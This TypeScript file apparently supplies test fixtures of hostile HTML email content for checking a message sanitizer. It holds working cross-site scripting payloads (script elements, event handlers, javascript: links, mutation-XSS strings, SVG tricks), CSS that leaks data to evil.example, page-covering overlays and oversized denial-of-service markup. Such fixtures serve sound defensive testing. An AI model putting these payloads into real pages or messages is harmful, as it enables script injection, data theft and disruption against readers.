/** A hostile message, by its attack. Each contains the word that must stay visible. */
export interface HostileMessage {
  readonly name: string
  readonly html: string
}

/** Visible text of every hostile message. */
export const visibleText = 'Kính gửi anh chị'

/** Script of these messages: it marks the page and sends a request. */
const attackScript = "top.owned=1;document.title='owned';fetch('https://evil.example/script')"
const visible = `<p>${visibleText}</p>`
const nestTags = (times: number, open: string, inside: string, close: string) =>
  open.repeat(times) + inside + close.repeat(times)

const message = (name: string, html: string): HostileMessage => ({ name, html })

/** Scripts: elements, event handlers and addresses. */
export const scripts: readonly HostileMessage[] = [
  message(
    'script elements',
    `${visible}<script>${attackScript}</script><SCRIPT/SRC=https://evil.example/x.js></SCRIPT>`,
  ),
  message(
    'handlers on everything',
    `${visible}<img src=x onerror="${attackScript}"><body onload="${attackScript}"><details open ontoggle="${attackScript}"><summary>a</summary></details><marquee onstart="${attackScript}">b</marquee><p onpointerenter="${attackScript}" onanimationstart="${attackScript}" style="animation:x 1s" tabindex=1 autofocus onfocus="${attackScript}">c</p>`,
  ),
  message(
    'links that run',
    `${visible}<a href="javascript:${attackScript}">javascript</a> <a href="jAvA&Tab;script:${attackScript}">hidden</a> <a href="data:text/html,<script>${attackScript}</script>">data</a> <a href="vbscript:x">vb</a><map name=m><area href="javascript:${attackScript}"></map>`,
  ),
  message(
    'frames, objects and forms',
    `${visible}<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>${attackScript}</script>"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e"><applet code=x></applet><form action="https://evil.example/f"><input name=q autofocus onfocus="${attackScript}"><button formaction="javascript:${attackScript}">Nhận quà</button></form><frameset onload="${attackScript}"><frame src="javascript:${attackScript}"></frameset>`,
  ),
  message(
    'refresh, base and link',
    `${visible}<meta http-equiv=refresh content="0;url=https://evil.example/r"><base href="https://evil.example/" target=_top><link rel=stylesheet href="https://evil.example/l.css"><link rel=preload as=image href="https://evil.example/p.png"><link rel=dns-prefetch href="//evil.example"><link rel=prerender href="https://evil.example/pr">`,
  ),
  message(
    'SVG with animation, use and foreignObject',
    `${visible}<svg width=900 height=900 onload="${attackScript}"><script>${attackScript}</script><a><animate attributeName=href values="javascript:${attackScript}" /><text y=20>x</text></a><use href="https://evil.example/s.svg#a"/><use href="data:image/svg+xml;base64,PHN2ZyBpZD0iYSIvPg==#a"/><foreignObject width=900 height=900><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${attackScript}"></iframe></foreignObject><image href="https://evil.example/i.png"/><set attributeName=onmouseover to="${attackScript}"/><style>@import "https://evil.example/svg.css";</style></svg><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${attackScript}'/>">`,
  ),
  message(
    'templates, custom elements and portals',
    `${visible}<template shadowrootmode=open><script>${attackScript}</script><slot></slot></template><x-a is=x onclick="${attackScript}"></x-a><portal src="https://evil.example/portal"></portal><video autoplay src="https://evil.example/v" onloadstart="${attackScript}"><track src="https://evil.example/t"></video><audio src="https://evil.example/a" autoplay></audio><picture><source srcset="https://evil.example/s.png"><img src=x></picture>`,
  ),
]

/** Mutation: content that changes when it is parsed again. */
export const mutations: readonly HostileMessage[] = [
  `<svg></p><style><a id="</style><img src=1 onerror=${attackScript.replaceAll("'", '')}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.owned=1&gt;">`,
  `<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror=top.owned=1>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.owned=1>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=top.owned=1></style></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src=x onerror=top.owned=1>">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=top.owned=1>">`,
  `<table><caption><svg><style></caption></table><img src onerror=top.owned=1>`,
  `<svg><title><style><img title="</style></title></svg><img src=x onerror=top.owned=1>">`,
  `<a href="https://x.example" title="&quot;><img src=x onerror=top.owned=1>">x</a><xmp></p><img src=x onerror=top.owned=1></xmp>`,
  `<p id="</style><img src=x onerror=top.owned=1>"><style>a[title="</style><script>top.owned=1</script>"]{color:red}</style>`,
  `<img alt="\`><img src=x onerror=top.owned=1>\`" src="https://x.example/\`\`onerror=top.owned=1">`,
  `<!--[if gte mso 9]><script>top.owned=1</script><![endif]--><!--><img src=x onerror=top.owned=1>-->`,
].map((html, index) => message(`mutation ${index + 1}`, `${visible}<div>${html}`))

/** Styles that fetch, cover the page, read data or animate endlessly. */
export const styles: readonly HostileMessage[] = [
  message(
    'styles that fetch',
    `<style>@import "https://evil.example/1.css";@import url(https://evil.example/2.css);@font-face{font-family:x;src:url(https://evil.example/f.woff2)}@namespace svg "https://evil.example/ns";
    p{font-family:x;background:image-set("https://evil.example/3.png" 1x);background-image:-webkit-image-set(url(https://evil.example/4.png) 1x);cursor:url(https://evil.example/5.cur),auto;--u:url(https://evil.example/6.png);border-image:url(https://evil.example/7.png) 1;mask:url(https://evil.example/8.svg#m);filter:url(https://evil.example/9.svg#f);content:url(https://evil.example/10.png);shape-outside:url(https://evil.example/11.png);offset-path:url(https://evil.example/12.svg#p);list-style:url(javascript:1)}
    div{background:var(--u)} p::before{content:url(https://evil.example/13.png)} a{src:url(https://evil.example/14.png)} b{background:cross-fade(url(https://evil.example/15.png),red 50%)}</style>${visible}<div style="background:var(--u)">x</div><div style="background-image:\\75\\72\\6c(https://evil.example/16.png)">y</div>`,
  ),
  message(
    'styles that cover the page',
    `<style>html,body{position:fixed!important;inset:0;z-index:2147483647;height:100000vh;width:500vw}.c{position:fixed;top:0;left:0;right:0;bottom:0;z-index:99999;background:red;width:100vw;height:100vh}.d{position:absolute;top:-2000px;left:-2000px;width:9000px;height:9000px}.e{position:sticky;top:0;margin:-9999px;transform:scale(100) translate(-500px,-500px)}</style>${visible}<div class=c><a href="https://evil.example/click">Đăng nhập</a></div><div class=d>d</div><div class=e>e</div><div style="position:fixed;inset:0;z-index:9;background:#000">x</div><dialog open style="position:fixed;inset:0">y</dialog><div popover>z</div>`,
  ),
  message(
    'styles that read attributes and send them off',
    `<style>a[href^="h"]{background:url(https://evil.example/leak?h)}input[value^="a"]{background:url(https://evil.example/leak?a)}:has(p){background:url(https://evil.example/leak?p)}:visited{background:url(https://evil.example/leak?v)}@media (min-width:1px){p{background:url(https://evil.example/leak?m)}}@supports (color:red){p{background:url(https://evil.example/leak?s)}}@container (width>1px){p{background:url(https://evil.example/leak?c)}}@layer x{p{background:url(https://evil.example/leak?l)}}@scope (p){:scope{background:url(https://evil.example/leak?o)}}</style>${visible}<a href="https://x.example">x</a>`,
  ),
  message(
    'styles that never rest',
    `<style>@keyframes k{from{width:1px;height:1px;background:url(https://evil.example/k.png)}to{width:9000px;height:9000px}}p,div{animation:k .01s infinite alternate;transition:all .01s;will-change:all;backdrop-filter:blur(90px)}marquee{width:99999px}</style>${visible}<marquee scrollamount=9999 loop=-1>chạy</marquee><blink>nháy</blink><div>${'<div>x</div>'.repeat(300)}</div>`,
  ),
  message(
    'styles that hide the message',
    `<style>body{display:none!important;height:0!important;overflow:hidden}html{visibility:hidden!important;opacity:0!important}</style><body style="display:none;visibility:hidden;height:0">${visible}`,
  ),
  message(
    'styles that end their element',
    `<style>p{color:red}</style/><img src=x onerror=top.owned=1></style><style>x{content:"\\3c/style\\3e\\3cimg src=x onerror=top.owned=1\\3e"}</style><style media="all{}</style><img src=x onerror=top.owned=1>">p{}</style>${visible}<p style="color:red;}</style><img src=x onerror=top.owned=1>">x</p>`,
  ),
  message(
    'names that imitate the page',
    `${visible}<form id=contentDocument><input name=body><input name=documentElement></form><img name=getElementById><img id=body><a id=location name=location href="https://evil.example/">x</a><div id=main class="bocau-quote">y</div><details class="bocau-quote" open><summary>z</summary></details>`,
  ),
]

/** Excessive content. */
export const excessiveMessages: readonly HostileMessage[] = [
  message('five megabytes of nested tables', visible + '<table><tr><td>'.repeat(340_000)),
  message('five megabytes of rows', `${visible}<table>${'<tr><td>x</td></tr>'.repeat(260_000)}</table>`),
  message('a hundred thousand open elements', visible + '<b><i><u><a href=//x>'.repeat(100_000)),
  message(
    'fifty thousand pictures',
    visible + '<img src="https://x.example/a.png" width=9999>'.repeat(50_000),
  ),
  message(
    'a very wide and very high message',
    `${visible}<div style="width:20000px;height:20000px">x</div>`.repeat(20),
  ),
  message('a word without end', `${visible}<p>${'a'.repeat(400_000)}</p>`),
  message('quotations in quotations', nestTags(3000, '<blockquote type=cite>', visible, '</blockquote>')),
  message(
    'everything unclosed',
    `${visible}<b <i "<a href='x <table><tr><td><style>p{<!-- <![CDATA[ <?php <p class="`,
  ),
]
